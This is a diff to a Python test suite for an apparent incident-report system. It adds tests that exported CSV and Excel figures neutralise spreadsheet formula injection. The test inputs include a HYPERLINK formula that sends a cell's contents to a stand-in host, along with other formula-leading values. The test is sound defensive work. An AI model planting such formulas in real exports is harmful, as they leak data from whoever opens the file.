@@ -3,7 +3,8 @@
 Black box: the authority's side. Reports come by file (of another Kaname), API and hand; they are checked for what the law asks of them, sent back or accepted; what was
 accepted stays. SQLite and PostgreSQL.
 """
-import copy, datetime, hashlib, os, sys, time
+import copy, csv, datetime, hashlib, io, os, sys, time, zipfile
+import xml.etree.ElementTree as tree
 sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
 from kaname import Checks, Desk, Kaname
 
@@ -56,6 +57,7 @@ def by_file(w):
     bad["incident"] |= {"users": "many", "occurred_at": "yesterday"}
     del bad["operator"]["name"]
     check.that(w.paths(bad) == {"report/kind", "report/colour", "incident/users", "incident/occurred_at", "operator/name"}, "all mistakes at once, by path in the file", w.paths(bad))
+    check.that(len(w.make(RECEIVED + "/document", bad, 422)["mistakes"]) == 5, "each once")
     check.that(w.paths({"format": "other/1"}) == {"format"}, "another format is none")
     check.that(w.paths({"format": "kaname-report/1", "report": [], "more": 1}) == {"operator", "report", "incident", "more"}, "sections that are missing", w.paths({"format": "kaname-report/1", "report": [], "more": 1}))
     a = w.k.call("POST", w.k.at("units/document"), doc, w.t)
@@ -281,6 +283,80 @@ def frozen(w, made):
     check.that(sheet.status == 200 and first["hash"] in sheet.body.decode("utf-8-sig"), "as CSV")
 
 
+def of_csv(text):
+    """A report as CSV: blocks of title, headings, rows and note, divided by an empty line."""
+    blocks, block = {}, []
+    for line in csv.reader(io.StringIO(text)):
+        if line:
+            block.append(line)
+        elif block:
+            blocks[block[0][0]], block = block[1:], []
+    return blocks
+
+
+def of_book(data):
+    """Its sheets by name, each a list of rows; no cell is a formula."""
+    ns, out = {"m": "http://schemas.openxmlformats.org/spreadsheetml/2006/main"}, {}
+    with zipfile.ZipFile(io.BytesIO(data)) as z:
+        words = ["".join(x.itertext()) for x in tree.fromstring(z.read("xl/sharedStrings.xml"))] if "xl/sharedStrings.xml" in z.namelist() else []
+        for i, sheet in enumerate(tree.fromstring(z.read("xl/workbook.xml")).iterfind("m:sheets/m:sheet", ns)):
+            root = tree.fromstring(z.read(f"xl/worksheets/sheet{i + 1}.xml"))
+            check.that(not root.findall(".//m:f", ns), "a sheet holds no formula", sheet.get("name"))
+            cell = lambda c: words[int(c.findtext("m:v", "", ns))] if c.get("t") == "s" else "".join(c.find("m:is", ns).itertext()) if c.get("t") == "inlineStr" else c.findtext("m:v", "", ns)
+            out[sheet.get("name")] = [[cell(c) for c in r.iterfind("m:c", ns)] for r in root.iterfind("m:sheetData/m:row", ns)]
+    return out
+
+
+def row_of(table):
+    return dict(zip(table[0], table[1]))
+
+
+FORMULA = '=HYPERLINK("http://example.jp/?"&A1,"原因")'
+
+
+def given_out(w):
+    """Figures as files that others open: what they are, until when, what they restate and why, where a rule changed; and nothing in them is run."""
+    for i, cause in enumerate((FORMULA, "+1", "@SUM(1)", "-2+3", '設備"故障", 一次')):
+        w.make(RECEIVED, {"subject": f"出力{i}", "operator": "出力通信", "kind": "return", "occurred_at": "2025-05-01T00:00:00Z", "received_at": "2026-05-01T00:00:00Z", "service_class": "other", "users": 700, "duration": 40, "cause": cause})
+    live = w.k.call("GET", w.k.at(RECEIVED + "/reports/figures.csv?fiscal_year=2025&cut_off=2026-05-31T14:59:59Z"), token=w.t)
+    check.that(live.status == 200 and live.headers["content-type"].startswith("text/csv") and live.headers["content-disposition"] == 'attachment; filename="received-reports-figures.csv"', "a file with its name", live.headers)
+    text = live.body.decode("utf-8-sig")
+    blocks = of_csv(text)
+    about = row_of(blocks["何の数か"])
+    check.that((about["数の性質"], about["年度"], about["締切"]) == ("いま数えた数", "2025", "2026-05-31 23:59:59") and "jp@" in about["規定のパック"], "not frozen, with its cut-off in Japan and the packs", about)
+    causes = {r[1] for r in blocks["原因"][1:]}
+    check.that({"'" + FORMULA, "'+1", "'@SUM(1)", "'-2+3", '設備"故障", 一次'} <= causes, "what a spreadsheet would run is marked as text", causes)
+    check.that(not any(c[:1] in "=+-@" for line in csv.reader(io.StringIO(text)) for c in line if c), "no cell begins as a formula")
+    check.that(any("2025-06-01" in r[0] for r in blocks["この年度に変わった規定"][1:]) and "比べるときに" in blocks["この年度に変わった規定"][-1][0], "where a rule changed, with its note", blocks["この年度に変わった規定"])
+    body = {"title": "2025年度 公表値", "fiscal_year": 2025, "cut_off": "2026-05-31T14:59:59Z", "reason": "=公表"}
+    draft = w.make("figure-sets", body)
+    for ending in ("", ".csv", ".xlsx"):
+        check.status(w.k.call("GET", w.k.at(f"figure-sets/{draft['id']}/reports/published{ending}"), token=w.t), 409, "what is not frozen is not given out" + ending)
+    first = w.act("figure-sets", draft, "freeze", {})
+    w.make(RECEIVED, {"subject": "遅れて", "operator": "出力通信", "kind": "return", "occurred_at": "2025-05-01T00:00:00Z", "received_at": "2026-05-02T00:00:00Z", "service_class": "other", "users": 700, "duration": 40, "cause": "後から"})
+    second = w.act("figure-sets", w.make("figure-sets", body | {"title": "訂正値", "restates": first["id"], "restatement": "@後から届いた報告"}), "freeze", {})
+    path = w.k.at(f"figure-sets/{second['id']}/reports/published")
+    book = w.k.call("GET", path + ".xlsx", token=w.t)
+    check.that(book.status == 200 and "published.xlsx" in book.headers["content-disposition"], "as a workbook", book.headers)
+    sheets, blocks, doc = of_book(book.body), of_csv(w.k.call("GET", path + ".csv", token=w.t).body.decode("utf-8-sig")), w.get(f"figure-sets/{second['id']}/reports/published")
+    check.that(list(sheets) == [x["title"]["ja"] for x in doc["tables"]] == list(blocks), "the same tables in all three", (list(sheets), list(blocks)))
+    for about in (row_of(sheets["何の数か"]), row_of(blocks["何の数か"])):
+        check.that((about["数の性質"], about["数えた記録のハッシュ"]) == ("固定した数", second["hash"]), "frozen, with the hash of what was counted", about)
+        check.that(about["訂正する集計"].endswith("2025年度 公表値") and about["訂正の理由"].lstrip("'") == "@後から届いた報告" and about["締切"] == "2026-05-31 23:59:59" and int(about["数えた報告"]) == second["counted"], "what it restates and why, until when", about)
+    check.that(row_of(sheets["何の数か"])["何のための集計か"] == "=公表" and row_of(blocks["何の数か"])["何のための集計か"] == "'=公表", "a text in the book, marked in CSV")
+    for name in ("区分と利用者数", "区分と継続時間", "原因"):
+        n = [sum(int(r[-1]) for r in t[name][1:] if len(r) > 1) for t in (sheets, blocks)]
+        check.that(n == [second["counted"]] * 2, "every report stands once in " + name, n)
+    check.that([r[1] for r in blocks["まとめ"][1:]] == ["1", "0", "0"] and len(blocks["違う報告"]) == 2 and "REC-" in blocks["違う報告"][1][0], "one was added, by its number", blocks["違う報告"])
+    values = doc["tables"][0]["rows"][0]["values"]
+    check.that((values["cut_off"], values["hash"], values["restates"]) == ("2026-05-31T14:59:59.000Z", second["hash"], first["id"]) and first["id"] in doc["_titles"], "and for programs", values)
+    english = w.k.call("GET", path + ".csv", token=w.t, headers={"Accept-Language": "en"}).body.decode("utf-8-sig")
+    check.that("What these figures are" in english and "何の数か" not in english, "in the language asked for")
+    check.status(w.k.call("GET", path + ".pdf", token=w.t), 404, "nothing else")
+    check.status(w.k.call("GET", w.k.at(f"figure-sets/{second['id']}/reports/members.csv"), token=w.t), 404, "what is no table is not given out as one")
+    check.status(w.k.call("GET", w.k.at(RECEIVED + "/reports/figures.xlsx"), token=w.t), 400, "a parameter that is missing")
+
+
 def run(postgres):
     w = World(postgres)
     by_file(w)
@@ -288,6 +364,7 @@ def run(postgres):
     lacking(w)
     judged(w, *joined(w))
     figures(w)
+    given_out(w)
     w.k.stop()
     check.that('"findings":0' in w.k.command("audit", "verify"), "the history verifies")
     w.k.close()
